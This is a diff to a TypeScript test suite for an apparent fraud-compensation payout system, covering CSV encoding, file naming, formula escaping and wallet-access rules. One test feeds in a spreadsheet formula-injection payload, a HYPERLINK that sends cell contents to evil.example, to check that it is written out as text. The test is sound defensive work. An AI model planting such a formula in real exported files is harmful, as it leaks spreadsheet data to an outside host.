@@ -327,8 +327,14 @@ describe("payout batches", () => {
     const second = await manager2.trpc.compensation.downloadBatch.query({ batchId: batch.batchId });
     expect(Buffer.from(second.csv, "utf8").equals(Buffer.from(first.csv, "utf8"))).toBe(true);
     expect(createHash("sha256").update(first.csv, "utf8").digest("hex")).toBe(first.sha256);
+    // UTF-8 with a BOM (Excel on Japanese Windows needs it to read the katakana), named in JST.
+    const bytes = Buffer.from(first.csv, "utf8");
+    expect([...bytes.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
+    expect(new TextDecoder("utf-8", { fatal: true }).decode(bytes)).toContain("ヤマダ タロウ");
+    expect(first.fileName).toBe(batch.fileName);
+    expect(first.fileName).toMatch(new RegExp(`^payout-batch-${batch.batchId.slice(0, 8)}-\\d{8}-\\d{4}JST\\.csv$`));
     const lines = first.csv.split("\r\n");
-    expect(lines[0]).toBe("bank_code,branch_code,account_number_masked,account_number,holder_name,amount_yen,case_ids");
+    expect(lines[0]).toBe("\uFEFFbank_code,branch_code,account_number_masked,account_number,holder_name,amount_yen,case_ids");
     expect(lines).toHaveLength(4); // header, two rows, and the empty string after the final CRLF
     expect(first.csv).toContain(`0125,101,****${a.victim.accountNumber.slice(-3)},${a.victim.accountNumber},ヤマダ タロウ,12000,${a.caseId}`);
     expect(first.csv).toContain(`"タナカ ""ハナコ"", 株",8000,${b.caseId}`);
@@ -337,6 +343,15 @@ describe("payout batches", () => {
     expect(listed.cases.map((c) => c.id).sort()).toEqual([a.caseId, b.caseId].sort());
     expect(JSON.stringify(listed)).not.toContain(a.victim.accountNumber);
     expect(await t.db.prisma.auditEvent.count({ where: { action: "compensation.downloadBatch", targetId: batch.batchId } })).toBe(2);
+  });
+
+  it("writes a formula-looking holder name into the payout file as text (#12 defect 2)", async () => {
+    const evil = '=HYPERLINK("http://evil.example/?x="&A1,"click")';
+    const c = await approvedCase(3_000, evil);
+    const batch = await manager.trpc.compensation.createPayoutBatch.mutate({ caseIds: [c.caseId], reason: "Payout run" });
+    const file = await manager.trpc.compensation.downloadBatch.query({ batchId: batch.batchId });
+    expect(file.csv).toContain(`,"'=HYPERLINK(""http://evil.example/?x=""&A1,""click"")",3000,${c.caseId}\r\n`);
+    expect(file.csv).not.toMatch(/,"?=HYPERLINK/);
   });
 
   it("two managers batching the same cases at the same moment: one batch gets them, never both", async () => {
@@ -392,9 +407,21 @@ describe("finding victims", () => {
     const ofWallet = await support.trpc.compensation.victimsOfAccount.query({ accountId: walletA });
     expect(ofWallet.wallet.fraudulent).toBe(true);
     expect(ofWallet.victims.map((v) => [v.branchCode, v.takenYen]).sort()).toEqual([["101", 150_000], ["202", 9_000]]);
-    const ofHonest = await support.trpc.compensation.victimsOfAccount.query({ accountId: honest });
+    // A manager (who may read any account) is told the wallet is not fraudulent.
+    const ofHonest = await manager.trpc.compensation.victimsOfAccount.query({ accountId: honest });
     expect(ofHonest).toMatchObject({ wallet: { fraudulent: false }, victims: [] });
-    expect(await errorCodeOf(support.trpc.compensation.victimsOfAccount.query({ accountId: "nope" }))).toBe("WALLET_NOT_FOUND");
+    // Support may not read wallets outside compensation (#12 defect 5): a wallet that is not flagged
+    // or confirmed fraud answers exactly like an id that does not exist, so ids cannot be probed.
+    const refusedHonest = await errorOf(support.trpc.compensation.victimsOfAccount.query({ accountId: honest }));
+    const refusedUnknown = await errorOf(support.trpc.compensation.victimsOfAccount.query({ accountId: "nope" }));
+    expect(refusedHonest).toMatchObject({ code: "WALLET_NOT_FOUND", httpStatus: 404 });
+    expect(refusedUnknown).toMatchObject({ code: "WALLET_NOT_FOUND", httpStatus: 404 });
+    const honestWallet = await t.db.prisma.walletAccount.findUniqueOrThrow({ where: { id: honest } });
+    for (const refused of [refusedHonest, refusedUnknown]) {
+      expect(JSON.stringify(refused)).not.toContain(honestWallet.holderName);
+      expect(JSON.stringify(refused)).not.toContain("riskScore");
+    }
+    expect(refusedHonest.message).toBe(refusedUnknown.message.replace("nope", honest));
   });
 
   it("lists cases by state with totals, and filters by bank and requester", async () => {
